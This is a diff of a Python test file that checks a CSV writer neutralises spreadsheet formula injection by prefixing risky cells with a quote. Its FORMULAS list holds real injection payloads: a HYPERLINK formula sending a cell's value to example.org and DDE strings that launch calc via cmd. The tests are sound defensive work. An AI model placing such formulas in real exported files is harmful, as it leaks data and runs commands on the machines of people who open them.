@@ -2,15 +2,29 @@
 
 from __future__ import annotations
 
+import csv
+
 import numpy as np
 import pandas as pd
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from likertflow.files import _text_and_integers, write_csv
+from likertflow.files import (
+    _text_and_integers,
+    read_csv,
+    restore_cell,
+    restore_text_array,
+    safe_cell,
+    safe_text_array,
+    write_csv,
+)
 
-# Characters the csv module quotes for, or might (a lone carriage return), and others near them.
-TRICKY = st.text(st.sampled_from(list(",\"\n\r \t';\\\x00aé€😀")), max_size=6)
-WORDS = st.sampled_from(["", '""', "\r\n", "NA", "None", "nan", "1,2", 'say "hi"'])
+# Characters the csv module quotes for, or might (a lone carriage return), and others near them;
+# those that begin a spreadsheet formula.
+TRICKY = st.text(st.sampled_from(list(",\"\n\r \t';\\\x00aé€😀=+-@1＝")), max_size=6)
+WORDS = st.sampled_from(
+    ["", '""', "\r\n", "NA", "None", "nan", "1,2", 'say "hi"', "=1+1", "-0.5", "@SUM(A1)"]
+)
 TEXT = st.one_of(st.none(), TRICKY, WORDS, st.text(max_size=5))
 
 
@@ -20,7 +34,14 @@ def written(frame: pd.DataFrame, path) -> bytes:
 
 
 def by_pandas(frame: pd.DataFrame, path) -> bytes:
-    frame.to_csv(path, index=False, lineterminator="\n")
+    """What ``to_csv`` writes of the frame once every text cell and name passed ``safe_cell``."""
+    safe = frame.copy()
+    safe.columns = [safe_cell(name) for name in frame.columns]
+    for position in range(frame.shape[1]):
+        column = frame.iloc[:, position]
+        if not pd.api.types.is_integer_dtype(column.dtype):
+            safe.isetitem(position, column.map(safe_cell, na_action="ignore"))
+    safe.to_csv(path, index=False, lineterminator="\n")
     return path.read_bytes()
 
 
@@ -62,3 +83,86 @@ def test_other_tables_are_left_to_pandas(tmp_path):
     ):
         assert not _text_and_integers(frame)
         assert written(frame, tmp_path / "t.csv") == by_pandas(frame, tmp_path / "t.csv")
+
+
+# --- No live formulas ---------------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://example.org/?leak="&A1, "Click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "＝1+1",
+    "- Not applicable",
+    "'=already quoted",
+]
+NUMBERS = ["-0.25", "+3", "1e-05", "-1E+10", "-inf", "nan", " -7 ", "12"]
+PLAIN = ["Strongly agree", "'Tis", "a=b", "R_1", "", "*"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_formula_texts_are_prefixed_with_a_quote(text):
+    assert safe_cell(text) == "'" + text
+    assert restore_cell(safe_cell(text)) == text
+
+
+@pytest.mark.parametrize("value", [*NUMBERS, *PLAIN, -3, 2.5, None])
+def test_numbers_and_other_texts_are_left_as_they_are(value):
+    assert safe_cell(value) == value or (value is None and safe_cell(value) is None)
+    assert restore_cell(safe_cell(value)) == value or value is None
+
+
+@settings(max_examples=500, deadline=None)
+@given(text=st.text(st.sampled_from(list("'= -+@\t\r\n1.eE＝a")), max_size=6))
+def test_neutralising_is_reversible_and_arrow_agrees_with_python(text):
+    import pyarrow as pa
+
+    safe = safe_cell(text)
+    assert restore_cell(safe) == text
+    column = pa.chunked_array([pa.array([text], pa.large_string())])
+    assert safe_text_array(column).to_pylist() == [safe]
+    assert restore_text_array(safe_text_array(column)).to_pylist() == [text]
+
+
+def is_live_formula(cell: str) -> bool:
+    """Whether a spreadsheet would read this CSV cell as a formula: it begins (after spaces) with
+    = + - @ (or their full-width forms), a tab or a line break, and is not a number."""
+    start = cell.lstrip(" ")[:1]
+    if start not in set("=+-@\t\r\n＝＋－＠") or not start:
+        return False
+    try:
+        float(cell)
+    except ValueError:
+        return True
+    return False
+
+
+@pytest.mark.parametrize("fast", [True, False])
+def test_no_table_cell_or_column_name_begins_a_formula(tmp_path, fast):
+    """Both writers (text and integer tables, and pandas for the rest) neutralise every text
+    cell and column name, keep numbers as numbers, and ``read_csv`` gives the texts back. (A
+    lone carriage return is left out: the csv module, and so pandas, writes it unquoted.)"""
+    texts = [text for text in [*FORMULAS, *NUMBERS, *PLAIN] if not text.startswith("\r")]
+    frame = pd.DataFrame(
+        {"=label": pd.array(texts, dtype="str"), "n": np.arange(len(texts), dtype=np.int64)}
+    )
+    if not fast:
+        frame["x"] = -np.linspace(0, 1, len(texts))  # a float column: pandas writes it
+    assert _text_and_integers(frame) == fast
+    path = tmp_path / "table.csv"
+    write_csv(frame, path)
+    with path.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[0][:2] == ["'=label", "n"]
+    assert [row[0] for row in rows[1:]] == [safe_cell(text) for text in texts]
+    live = [cell for row in rows for cell in row if is_live_formula(cell)]
+    assert not live
+    assert not is_live_formula("-0.5") and is_live_formula("=1") and is_live_formula(" -x")
+    back = read_csv(path)
+    assert back.columns[0] == "=label"
+    assert back["=label"].fillna("").tolist() == texts
